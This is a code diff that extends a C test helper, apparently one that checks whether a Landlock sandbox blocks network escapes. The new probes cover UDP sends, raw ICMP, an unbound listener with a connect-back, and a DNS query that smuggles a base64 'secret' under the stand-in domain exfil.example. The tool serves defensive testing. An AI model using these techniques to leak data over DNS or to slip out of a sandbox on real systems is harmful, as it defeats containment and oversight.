@@ -40,7 +40,25 @@
  *   escape tcp-fastopen PORT         TCP sendto(MSG_FASTOPEN), which connects
  *                                    without connect(2)
  *   escape raw-socket                socket(AF_INET, SOCK_RAW, IPPROTO_TCP)
- *   escape udp-send PORT             UDP sendto 127.0.0.1:PORT
+ *   (HOST: an IPv4 or IPv6 address, e.g. 127.0.0.1 or ::1)
+ *   escape udp-echo HOST SECONDS     server: prints "ready PORT", sends every
+ *                                    datagram back until SECONDS passed
+ *   escape udp-send HOST PORT        UDP sendto HOST:PORT; "escaped" once the
+ *                                    echo server's answer arrives (2 s)
+ *   escape udp-send-fd N             the same on an inherited, connected UDP
+ *                                    socket N, with send(2)
+ *   escape dns-query HOST PORT       a DNS query (type A) whose name carries
+ *                                    a secret, to HOST:PORT; "escaped" when an
+ *                                    answer with its ID comes back
+ *   escape raw-icmp                  ICMP echo to 127.0.0.1 from a raw socket
+ *                                    (root); "escaped" on the echo reply
+ *   escape listen-unbound            TCP listen() without bind(): prints
+ *                                    "listening PORT" (the kernel's pick),
+ *                                    "escaped" if a connection comes (5 s)
+ *   escape connect-back CMD [ARG...] wrapper: runs CMD; on a "listening
+ *                                    PORT" line from it, connects to
+ *                                    127.0.0.1:PORT from outside; relays the
+ *                                    other lines
  *   escape io-uring-write PATH       IORING_OP_OPENAT(O_WRONLY|O_CREAT) on
  *                                    a ring made by raw syscalls, then write
  *   escape io-uring-mptcp-connect PORT  IORING_OP_SOCKET(AF_INET, MPTCP),
@@ -421,6 +439,218 @@ static int do_inet(const char *port, int type, int proto, int fastopen, int bind
 	return escaped(NULL);
 }
 
+/* HOST (v4 or v6) and PORT as a sockaddr; returns its length, 0 if HOST
+ * is not an address. */
+static socklen_t inet_addr_of(const char *host, const char *port, struct sockaddr_storage *ss)
+{
+	struct sockaddr_in *sin = (struct sockaddr_in *)ss;
+	struct sockaddr_in6 *sin6 = (struct sockaddr_in6 *)ss;
+
+	memset(ss, 0, sizeof(*ss));
+	if (inet_pton(AF_INET, host, &sin->sin_addr) == 1) {
+		sin->sin_family = AF_INET;
+		sin->sin_port = htons((uint16_t)atoi(port));
+		return sizeof(*sin);
+	}
+	if (inet_pton(AF_INET6, host, &sin6->sin6_addr) == 1) {
+		sin6->sin6_family = AF_INET6;
+		sin6->sin6_port = htons((uint16_t)atoi(port));
+		return sizeof(*sin6);
+	}
+	return 0;
+}
+
+static int udp_echo(const char *host, const char *seconds)
+{
+	struct sockaddr_storage ss;
+	socklen_t len = inet_addr_of(host, "0", &ss);
+	time_t end = time(NULL) + atoi(seconds);
+	int fd;
+
+	if (!len)
+		return usage();
+	fd = socket(ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	if (fd < 0 || bind(fd, (struct sockaddr *)&ss, len) < 0 ||
+	    getsockname(fd, (struct sockaddr *)&ss, &len) < 0)
+		return blocked();
+	printf("ready %u\n",
+	       ntohs(ss.ss_family == AF_INET ? ((struct sockaddr_in *)&ss)->sin_port
+					     : ((struct sockaddr_in6 *)&ss)->sin6_port));
+	while (time(NULL) < end) {
+		struct pollfd p = {fd, POLLIN, 0};
+		struct sockaddr_storage from;
+		socklen_t flen = sizeof(from);
+		char buf[512];
+		ssize_t n;
+
+		if (poll(&p, 1, 200) <= 0)
+			continue;
+		n = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from, &flen);
+		if (n > 0)
+			sendto(fd, buf, (size_t)n, 0, (struct sockaddr *)&from, flen);
+	}
+	return 0;
+}
+
+/* Sends MSG (to TO, or on a connected socket) and waits for the echo: an
+ * answer proves the datagram arrived. */
+static int udp_roundtrip(int fd, const void *msg, size_t len, const struct sockaddr *to,
+			 socklen_t to_len)
+{
+	struct pollfd p = {fd, POLLIN, 0};
+	char buf[512];
+	ssize_t n;
+
+	if (sendto(fd, msg, len, 0, to, to_len) < 0)
+		return blocked();
+	if (poll(&p, 1, 2000) <= 0)
+		return blocked_with(ETIMEDOUT);
+	n = recv(fd, buf, sizeof(buf), 0);
+	if (n < 0)
+		return blocked();
+	if ((size_t)n != len || memcmp(buf, msg, 2) != 0)
+		return blocked_with(EBADMSG);
+	close(fd);
+	return escaped("answered");
+}
+
+static int do_udp_send(const char *host, const char *port, int dns)
+{
+	/* A query for A c2VjcmV0.exfil.example: the label is base64 of
+	 * "secret", what a leak through any resolver looks like. */
+	static const unsigned char query[] = {
+	    0x5b, 0x0c, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 8,	 'c',
+	    '2',  'V',	'j',  'c',  'm',  'V',	'0',  5,    'e',  'x',	'f',  'i',  'l', 7,
+	    'e',  'x',	'a',  'm',  'p',  'l',	'e',  0,    0x00, 0x01, 0x00, 0x01};
+	struct sockaddr_storage ss;
+	socklen_t len = inet_addr_of(host, port, &ss);
+	int fd;
+
+	if (!len)
+		return usage();
+	fd = socket(ss.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	if (fd < 0)
+		return blocked();
+	if (dns)
+		return udp_roundtrip(fd, query, sizeof(query), (struct sockaddr *)&ss, len);
+	return udp_roundtrip(fd, "xy", 2, (struct sockaddr *)&ss, len);
+}
+
+/* ICMP echo by hand: a raw socket crafts any IP packet (only root, with
+ * CAP_NET_RAW, may open one). */
+static int do_raw_icmp(void)
+{
+	struct sockaddr_in to = {.sin_family = AF_INET};
+	unsigned char pkt[16] = {8, 0, 0, 0, 0x12, 0x34, 0, 1, 's', 'e', 'c', 'r', 'e', 't'};
+	unsigned sum = 0;
+	time_t end = time(NULL) + 3;
+	size_t i;
+	int fd;
+
+	to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+	for (i = 0; i < sizeof(pkt); i += 2)
+		sum += (unsigned)(pkt[i] << 8 | pkt[i + 1]);
+	while (sum >> 16)
+		sum = (sum & 0xffff) + (sum >> 16);
+	pkt[2] = (unsigned char)(~sum >> 8);
+	pkt[3] = (unsigned char)~sum;
+	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
+	if (fd < 0)
+		return blocked();
+	if (sendto(fd, pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) < 0)
+		return blocked();
+	/* The raw socket sees our request too; wait for the reply (type 0). */
+	while (time(NULL) < end) {
+		struct pollfd p = {fd, POLLIN, 0};
+		unsigned char buf[256];
+		ssize_t n;
+		size_t ihl;
+
+		if (poll(&p, 1, 500) <= 0)
+			continue;
+		n = recv(fd, buf, sizeof(buf), 0);
+		if (n < 20)
+			continue;
+		ihl = (size_t)(buf[0] & 0xf) * 4;
+		if ((size_t)n >= ihl + 8 && buf[ihl] == 0 && buf[ihl + 4] == 0x12 &&
+		    buf[ihl + 5] == 0x34) {
+			close(fd);
+			return escaped("echo reply");
+		}
+	}
+	return blocked_with(ETIMEDOUT);
+}
+
+/* listen() on a socket never bound: the kernel picks a port, and nothing
+ * asked Landlock about it. */
+static int do_listen_unbound(void)
+{
+	struct sockaddr_in sin;
+	socklen_t len = sizeof(sin);
+	struct pollfd p;
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), c;
+
+	if (fd < 0)
+		return blocked();
+	if (listen(fd, 4) < 0 || getsockname(fd, (struct sockaddr *)&sin, &len) < 0)
+		return blocked();
+	printf("listening %u\n", ntohs(sin.sin_port));
+	p = (struct pollfd){fd, POLLIN, 0};
+	if (poll(&p, 1, 5000) <= 0)
+		return blocked_with(ETIMEDOUT);
+	c = accept(fd, NULL, NULL);
+	if (c < 0)
+		return blocked();
+	close(c);
+	close(fd);
+	return escaped("accepted");
+}
+
+/* The outside end of listen-unbound: connects to the port CMD announces,
+ * from this unsandboxed process, and passes the rest of CMD's output on. */
+static int do_connect_back(char **cmd)
+{
+	int pipefd[2], status, conn = -1;
+	char line[256];
+	FILE *in;
+	pid_t pid;
+
+	if (pipe(pipefd) < 0)
+		return blocked();
+	pid = fork();
+	if (pid < 0)
+		return blocked();
+	if (pid == 0) {
+		dup2(pipefd[1], STDOUT_FILENO);
+		close(pipefd[0]);
+		close(pipefd[1]);
+		execvp(cmd[0], cmd);
+		_exit(127);
+	}
+	close(pipefd[1]);
+	in = fdopen(pipefd[0], "r");
+	while (in && fgets(line, sizeof(line), in)) {
+		unsigned port;
+
+		if (sscanf(line, "listening %u", &port) == 1) {
+			struct sockaddr_in sin = {.sin_family = AF_INET,
+						  .sin_port = htons((uint16_t)port)};
+
+			sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+			conn = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+			if (conn >= 0)
+				connect(conn, (struct sockaddr *)&sin, sizeof(sin));
+			continue;
+		}
+		fputs(line, stdout);
+	}
+	if (waitpid(pid, &status, 0) < 0)
+		return blocked();
+	if (conn >= 0)
+		close(conn);
+	return WIFEXITED(status) ? WEXITSTATUS(status) : EXIT_USAGE;
+}
+
 /* A raw socket writes TCP segments by hand, to any port: only root
  * (CAP_NET_RAW) may open one. */
 static int do_raw_socket(void)
@@ -696,8 +926,20 @@ int main(int argc, char **argv)
 		return do_inet(argv[2], SOCK_STREAM, IPPROTO_TCP, 0, 0);
 	if (IS("mptcp-connect", 1))
 		return do_inet(argv[2], SOCK_STREAM, IPPROTO_MPTCP, 0, 0);
-	if (IS("udp-send", 1))
-		return do_inet(argv[2], SOCK_DGRAM, IPPROTO_UDP, 0, 0);
+	if (IS("udp-echo", 2))
+		return udp_echo(argv[2], argv[3]);
+	if (IS("udp-send", 2))
+		return do_udp_send(argv[2], argv[3], 0);
+	if (IS("udp-send-fd", 1))
+		return udp_roundtrip(atoi(argv[2]), "xy", 2, NULL, 0);
+	if (IS("dns-query", 2))
+		return do_udp_send(argv[2], argv[3], 1);
+	if (IS("raw-icmp", 0))
+		return do_raw_icmp();
+	if (IS("listen-unbound", 0))
+		return do_listen_unbound();
+	if (strcmp(cmd, "connect-back") == 0 && argc > 2)
+		return do_connect_back(argv + 2);
 	if (IS("tcp-bind", 1))
 		return do_inet(argv[2], SOCK_STREAM, IPPROTO_TCP, 0, 1);
 	if (IS("mptcp-bind", 1))
